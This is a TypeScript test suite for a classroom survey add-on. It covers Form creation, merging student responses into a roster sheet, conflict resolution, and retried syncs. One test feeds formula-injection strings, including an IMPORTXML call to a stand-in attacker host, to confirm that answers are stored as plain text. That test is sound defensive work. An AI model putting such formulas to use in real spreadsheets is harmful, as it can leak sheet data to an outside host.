// The interest survey through the built bundle: creating the Form, merging responses as they arrive, syncing, conflicts.
import type { Result, SurveyState } from '../../src/shared/rpc';
import { submitFormResponse } from '../../src/local/runtime/scheduler';
import { chunkedRead } from '../../src/core/settings/chunked-value';
import { callCount, KILL_OUTCOMES } from '../helpers/kill-outcomes';
import { runOk } from '../helpers/runtime';
import { addRows, formulasOf, recordsOf, setUpClass, spreadsheetOf, student as rosterStudent, tab, valuesOf } from './class-fixture';
import { answer, CAREERS, classWithSurvey, EMAIL_ME, FIRST, formOf, INTERESTS, LAST, student, surveyState, TYPES } from './survey-fixture';

describe('createSurvey', () => {
  it('builds the default Form collecting addresses, answering into this spreadsheet, with one form-submit trigger', () => {
    const { runtime, formId } = classWithSurvey();
    const form = formOf(runtime, formId);
    expect(form.items.map((i) => i.title)).toEqual(surveyState(runtime).defaultQuestions.map((q) => q.title));
    expect(form.items.find((i) => i.title === EMAIL_ME)).toMatchObject({ type: 'MULTIPLE_CHOICE', choices: ['Yes', 'No'], required: false });
    expect(form.items.find((i) => i.title === TYPES)).toMatchObject({ type: 'CHECKBOX' });
    expect(form.emailCollection).not.toBe('DO_NOT_COLLECT');
    expect(form.destination?.spreadsheetId).toBe(spreadsheetOf(runtime).id);
    expect(runtime.state.triggers.filter((t) => t.eventType === 'ON_FORM_SUBMIT').map((t) => t.handler)).toEqual(['onSurveySubmit']);
    const state = surveyState(runtime);
    expect(state.survey?.questions.map((q) => q.column)).toEqual(state.defaultQuestions.map((q) => q.column));
    expect(state.survey?.unmapped).toEqual([]);
  });

  it('keeps each item id and entry id in the settings store, under a property of its own keyed by the Form id', () => {
    const { runtime, formId } = classWithSurvey();
    const properties = Object.values(runtime.state.properties.document)[0];
    const text = chunkedRead(`rapport.survey.${formId}`, properties);
    const stored = JSON.parse(text.ok ? (text.value ?? '') : '');
    expect(stored.formId).toBe(formId);
    expect(stored.items).toHaveLength(11);
    const form = formOf(runtime, formId);
    expect(stored.items.map((i: { itemId: number }) => i.itemId)).toEqual(form.items.map((i) => i.id));
    for (const item of stored.items) expect(item.entryId).toMatch(/^\d+$/);
    expect(stored.items.map((i: { column: string | null }) => i.column)).toEqual(surveyState(runtime).defaultQuestions.map((q) => q.column));
    expect(JSON.parse(properties['rapport.settings.survey'])).toEqual({ version: 2, value: { pending: null, carried: [] } });
  });

  it('never makes a second trigger: a second survey, and the same one again, share it, each keeping its mapping', () => {
    const { runtime, formId } = classWithSurvey();
    const second = runOk<Result<{ formId: string }>>(runtime, 'createSurvey', [{ title: 'What is new with you?', helpText: '', kind: 'paragraph', column: 'interests', required: false, choices: [] }]);
    runOk(runtime, 'createSurvey');
    expect(runtime.state.triggers.filter((t) => t.eventType === 'ON_FORM_SUBMIT')).toHaveLength(1);
    const state = surveyState(runtime);
    expect(state.earlier.map((s) => s.formId)).toEqual([second.ok && second.value.formId, formId]);
    answer(runtime, formId, 'ana@school.example', { [FIRST]: 'Ana', [LAST]: 'Lopez', [CAREERS]: 'nurse' });
    answer(runtime, second.ok ? second.value.formId : '', 'ana@school.example', { 'What is new with you?': 'chess' });
    expect(student(runtime, 'ana@school.example')).toMatchObject({ 'Career path': 'nurse', Interests: 'chess' });
  });

  it('refuses bad questions with a message naming the question, and creates nothing', () => {
    const runtime = setUpClass();
    const result = runOk<Result<unknown>>(runtime, 'createSurvey', [{ title: '', kind: 'text', column: null, helpText: '', required: false, choices: [] }]);
    expect(result).toEqual({ ok: false, problems: [{ column: 'Question 1', message: 'The question is empty.' }] });
    expect(runtime.state.forms).toEqual({});
  });

  it('asks for set-up first', () => {
    const runtime = setUpClass();
    spreadsheetOf(runtime).sheets = spreadsheetOf(runtime).sheets.filter((s) => s.name !== 'Students');
    const result = runOk<Result<unknown>>(runtime, 'createSurvey');
    expect(!result.ok && result.problems[0].message).toContain('Run "Set up class"');
  });
});

describe('merging responses', () => {
  it('adds a new student with an id and the answers under their columns; the raw response stays in the responses tab', () => {
    const { runtime, formId } = classWithSurvey();
    answer(runtime, formId, 'ben@school.example', { [FIRST]: 'Ben', [LAST]: 'Okafor', [CAREERS]: 'pilot', [TYPES]: ['video', 'book'], [INTERESTS]: 'Chess, drones', [EMAIL_ME]: 'Yes' });
    expect(student(runtime, 'ben@school.example')).toMatchObject({ ID: expect.stringMatching(/^stu-[0-9a-f]{12}$/), 'First name': 'Ben', 'Career path': 'pilot', 'Preferred resource types': 'video, book', Interests: 'Chess, drones', 'Opt out': false });
    expect(recordsOf(runtime, 'Form Responses 1')).toEqual([expect.objectContaining({ 'Email Address': 'ben@school.example', [CAREERS]: 'pilot' })]);
  });

  it('updates a returning student who types the address in another case, filling empty fields and merging lists', () => {
    const { runtime, formId } = classWithSurvey();
    addRows(runtime, 'Students', [rosterStudent(1, { Interests: 'Robotics, music', 'Career path': '' })]);
    answer(runtime, formId, ' STUDENT1@School.Example ', { [FIRST]: 'Student1', [LAST]: 'Family1', [CAREERS]: 'engineer', [INTERESTS]: 'MUSIC, chess' });
    expect(recordsOf(runtime, 'Students')).toHaveLength(1);
    expect(student(runtime, 'student1@school.example')).toMatchObject({ ID: 'stu-000001', 'Career path': 'engineer', Interests: 'Robotics, music, chess' });
  });

  it('keeps a field the teacher edited and lists the conflict; accept writes the answer, dismiss keeps the teacher\'s', () => {
    const { runtime, formId } = classWithSurvey();
    answer(runtime, formId, 'ana@school.example', { [FIRST]: 'Ana', [LAST]: 'Lopez', [CAREERS]: 'nurse' });
    answer(runtime, formId, 'ana@school.example', { [FIRST]: 'Ana', [LAST]: 'Lopez', [CAREERS]: 'doctor' });
    expect(student(runtime, 'ana@school.example')?.['Career path']).toBe('doctor');
    const careerColumn = valuesOf(runtime, 'Students')[0].indexOf('Career path');
    tab(runtime, 'Students').cells[1][careerColumn] = { v: 'surgeon' };
    answer(runtime, formId, 'ana@school.example', { [FIRST]: 'Ana', [LAST]: 'Lopez', [CAREERS]: 'vet' });
    expect(student(runtime, 'ana@school.example')?.['Career path']).toBe('surgeon');
    const id = String(student(runtime, 'ana@school.example')?.ID);
    expect(surveyState(runtime).conflicts).toEqual([{ studentId: id, studentName: 'Ana Lopez', column: 'careerPath', columnHeader: 'Career path', current: 'surgeon', answer: 'vet' }]);
    const accepted = runOk<Result<SurveyState>>(runtime, 'resolveSurveyConflict', id, 'Career path', 'accept');
    expect(accepted.ok && accepted.value.conflicts).toEqual([]);
    expect(student(runtime, 'ana@school.example')?.['Career path']).toBe('vet');
    answer(runtime, formId, 'ana@school.example', { [FIRST]: 'Ana', [LAST]: 'Lopez', [CAREERS]: 'chef' });
    expect(student(runtime, 'ana@school.example')?.['Career path']).toBe('chef');
    tab(runtime, 'Students').cells[1][careerColumn] = { v: 'baker' };
    answer(runtime, formId, 'ana@school.example', { [FIRST]: 'Ana', [LAST]: 'Lopez', [CAREERS]: 'pilot' });
    const dismissed = runOk<Result<SurveyState>>(runtime, 'resolveSurveyConflict', id, 'careerPath', 'dismiss');
    expect(dismissed.ok && dismissed.value.conflicts).toEqual([]);
    expect(student(runtime, 'ana@school.example')?.['Career path']).toBe('baker');
    const again = runOk<Result<SurveyState>>(runtime, 'resolveSurveyConflict', id, 'careerPath', 'dismiss');
    expect(!again.ok && again.problems[0].message).toContain('already resolved');
    const bad = runOk<Result<SurveyState>>(runtime, 'resolveSurveyConflict', id, 'Private notes', 'accept');
    expect(!bad.ok && bad.problems[0].message).toContain('is not a Students column');
  });

  it('stores formula-like, number-like and date-like answers as text, never a formula', () => {
    const { runtime, formId } = classWithSurvey();
    const texts = ['=IMPORTXML("http://evil.example","//a")', '+1 555 0100', '-2', '@x', '3/4', '\t=1+1'];
    texts.forEach((text, i) => answer(runtime, formId, `s${i}@school.example`, { [FIRST]: text, [LAST]: text, [CAREERS]: text, [INTERESTS]: text }));
    const rows = recordsOf(runtime, 'Students');
    // Answers are trimmed of surrounding white space (a leading tab too); what remains is stored as the text typed.
    const stored = texts.map((t) => t.trim());
    expect(rows.map((r) => [r['First name'], r['Career path'], r.Interests].map((v) => String(v).replace(/^'/, '')))).toEqual(stored.map((t) => [t, t, t]));
    expect(formulasOf(runtime, 'Students').flat().every((f) => f === '')).toBe(true);
  });

  it('merges a duplicate submission once, and two responses whose first trigger was killed, never "the last row" only', () => {
    const { runtime, formId } = classWithSurvey();
    const ben = { [FIRST]: 'Ben', [LAST]: 'Okafor', [INTERESTS]: 'chess' };
    answer(runtime, formId, 'ben@school.example', ben);
    answer(runtime, formId, 'ben@school.example', ben);
    expect(recordsOf(runtime, 'Students')).toHaveLength(1);
    expect(student(runtime, 'ben@school.example')?.Interests).toBe('chess');
    answer(runtime, formId, 'cy@school.example', { [FIRST]: 'Cy', [LAST]: 'Ng' }, 1);
    expect(student(runtime, 'cy@school.example')).toBeUndefined();
    answer(runtime, formId, 'di@school.example', { [FIRST]: 'Di', [LAST]: 'Ray' });
    expect(recordsOf(runtime, 'Students').map((r) => r['First name'])).toEqual(['Ben', 'Cy', 'Di']);
  });

  it('merges both of two responses stored before either handler ran: the first handler merges both, the second finds nothing left', () => {
    const { runtime, formId } = classWithSurvey();
    const triggers = runtime.state.triggers;
    runtime.state.triggers = [];
    answer(runtime, formId, 'ana@school.example', { [FIRST]: 'Ana', [LAST]: 'Lopez' });
    answer(runtime, formId, 'ben@school.example', { [FIRST]: 'Ben', [LAST]: 'Okafor' });
    runtime.state.triggers = triggers;
    runOk(runtime, 'onSurveySubmit', { values: ['row of Ben only'] });
    expect(recordsOf(runtime, 'Students').map((r) => r['First name'])).toEqual(['Ana', 'Ben']);
    const after = JSON.stringify(spreadsheetOf(runtime));
    runOk(runtime, 'onSurveySubmit', { values: ['row of Ana only'] });
    expect(JSON.stringify(spreadsheetOf(runtime))).toBe(after);
  });

  it('waits up to two minutes for a busy lock before giving up, and the next submission merges the one it left', () => {
    const { runtime, formId } = classWithSurvey();
    runtime.locks.set(`document:${spreadsheetOf(runtime).id}`, 999_999);
    const [busy] = submitFormResponse(runtime, formId, { email: 'ana@school.example', answers: { [FIRST]: 'Ana', [LAST]: 'Lopez' } });
    expect(busy.record.outcome).toBe('error');
    expect(Date.parse(busy.record.endedAt) - Date.parse(busy.record.startedAt)).toBeGreaterThanOrEqual(120_000);
    runtime.locks.clear();
    answer(runtime, formId, 'ben@school.example', { [FIRST]: 'Ben', [LAST]: 'Okafor' });
    expect(recordsOf(runtime, 'Students').map((r) => r['First name'])).toEqual(['Ana', 'Ben']);
  });

  it('maps by item id after the Form is edited: retitled, reordered, deleted and added questions', () => {
    const { runtime, formId } = classWithSurvey();
    const form = formOf(runtime, formId);
    const careers = form.items.find((i) => i.title === CAREERS)!;
    careers.title = 'Dream job?';
    form.items.reverse();
    form.items = form.items.filter((i) => i.title !== INTERESTS);
    form.items.push({ id: 999_999, type: 'TEXT', title: 'Favourite colour', helpText: '', required: false });
    answer(runtime, formId, 'ana@school.example', { [FIRST]: 'Ana', [LAST]: 'Lopez', 'Dream job?': 'nurse', 'Favourite colour': 'blue' });
    const ana = student(runtime, 'ana@school.example')!;
    expect(ana).toMatchObject({ 'First name': 'Ana', 'Last name': 'Lopez', 'Career path': 'nurse', Interests: '' });
    expect(Object.values(ana).map(String).some((v) => v.includes('blue'))).toBe(false);
    const state = surveyState(runtime);
    expect(state.survey?.unmapped).toEqual([{ itemId: 999_999, title: 'Favourite colour' }]);
    expect(state.survey?.questions.find((q) => q.column === 'careerPath')).toMatchObject({ title: 'Dream job?', deleted: false });
    expect(state.problems).toEqual([{ column: 'Interests', message: expect.stringContaining(`"${INTERESTS}" was deleted from the Form`) }]);
  });

  it('merges responses that came while the trigger was missing; a second sync changes nothing', () => {
    const { runtime, formId } = classWithSurvey();
    runtime.state.triggers = [];
    for (const name of ['Ana', 'Ben', 'Cy']) answer(runtime, formId, `${name}@school.example`, { [FIRST]: name, [LAST]: 'X', [CAREERS]: `${name} job` });
    expect(recordsOf(runtime, 'Students')).toHaveLength(0);
    expect(runOk(runtime, 'syncSurveyResponses')).toEqual({ ok: true, value: { merged: 3, more: false } });
    const after = JSON.stringify(spreadsheetOf(runtime));
    expect(runOk(runtime, 'syncSurveyResponses')).toEqual({ ok: true, value: { merged: 0, more: false } });
    expect(JSON.stringify(spreadsheetOf(runtime))).toBe(after);
    expect(surveyState(runtime).sections).toEqual([{ section: 'No section', responded: expect.arrayContaining([expect.objectContaining({ name: 'Ana X' })]), waiting: [] }]);
  });

  it('ends as an uninterrupted sync would, however the sync is killed and retried', () => {
    const reference = classWithSurvey();
    addRows(reference.runtime, 'Students', [rosterStudent(1, { 'Career path': '' })]);
    reference.runtime.state.triggers = [];
    const responses = [
      ['student1@school.example', { [FIRST]: 'Student1', [LAST]: 'Family1', [CAREERS]: 'engineer' }],
      ['new@school.example', { [FIRST]: 'New', [LAST]: 'Person', [INTERESTS]: 'art' }],
    ] as const;
    for (const [email, answers] of responses) answer(reference.runtime, reference.formId, email, answers);
    const base = reference.runtime.fork();
    runOk(reference.runtime, 'syncSurveyResponses');
    const calls = callCount(reference.runtime.state.executions.at(-1)!.calls);
    const expected = recordsOf(reference.runtime, 'Students').map((r) => ({ ...r, ID: '' }));
    // Every third call, each with the four faults (the sweep costs two runs per fault).
    for (const outcome of KILL_OUTCOMES) {
      for (let call = 1; call <= calls; call += 3) {
        const runtime = base.fork();
        expect(runtime.run('syncSurveyResponses', [], outcome.options(call)).record.outcome).toBe('killed');
        runOk(runtime, 'syncSurveyResponses');
        expect([outcome.name, call, recordsOf(runtime, 'Students').map((r) => ({ ...r, ID: '' }))]).toEqual([outcome.name, call, expected]);
      }
    }
  });
});
